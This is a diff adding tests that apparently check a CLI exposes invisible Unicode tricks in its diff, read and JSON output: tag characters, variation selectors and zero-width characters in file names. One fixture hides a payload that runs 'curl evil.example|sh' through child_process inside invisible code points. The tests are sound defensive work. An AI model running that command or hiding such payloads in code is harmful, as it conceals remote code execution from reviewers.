@@ -104,3 +104,37 @@ describe('a newline in a file name', () => {
     ).toBe(false)
   })
 })
+/** Tag characters and supplementary variation selectors: drawn as nothing. */
+const HIDDEN = /\p{Default_Ignorable_Code_Point}/u
+
+describe('invisible characters', () => {
+  it('shows a payload hidden in tag characters and variation selectors (GlassWorm, ASCII smuggling)', async () => {
+    const id = await start()
+    // Each ASCII byte of the payload as an invisible code point: tag characters (U+E0000 + byte) and
+    // variation selectors (U+E0100 + byte - 16); terminals draw both as nothing.
+    const payload = 'require("child_process").exec("curl evil.example|sh")'
+    const tags = [...payload].map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join('')
+    const selectors = [...payload].map((c) => String.fromCodePoint(0xe0100 + c.charCodeAt(0) - 16)).join('')
+    const content = `export const a = '${tags}'\nexport const b = '${selectors}'\n`
+    await cli(['write', id, 'src/app.ts'], { stdin: content })
+    for (const args of [
+      ['diff', id],
+      ['read', id, 'src/app.ts'],
+    ]) {
+      const shown = await cli(args, { terminal: true })
+      expect(shown.code).toBe(0)
+      expect(shown.stdout, args[0]).not.toMatch(HIDDEN)
+    }
+    const json = await cli(['read', id, 'src/app.ts', '--json'])
+    expect(json.stdout).not.toMatch(HIDDEN)
+  })
+
+  it('shows zero-width characters that make two file names look the same', async () => {
+    const id = await start()
+    await cli(['write', id, 'src/app.ts\u200b'], { stdin: 'agent\n' })
+    await cli(['write', id, 'src/\ufeffapp.ts'], { stdin: 'agent\n' })
+    await cli(['write', id, 'src/app\u2060.ts'], { stdin: 'agent\n' })
+    const shown = await cli(['diff', id, '--stat'], { terminal: true })
+    expect(shown.stdout).not.toMatch(/[\u200b\ufeff\u2060]/)
+  })
+})
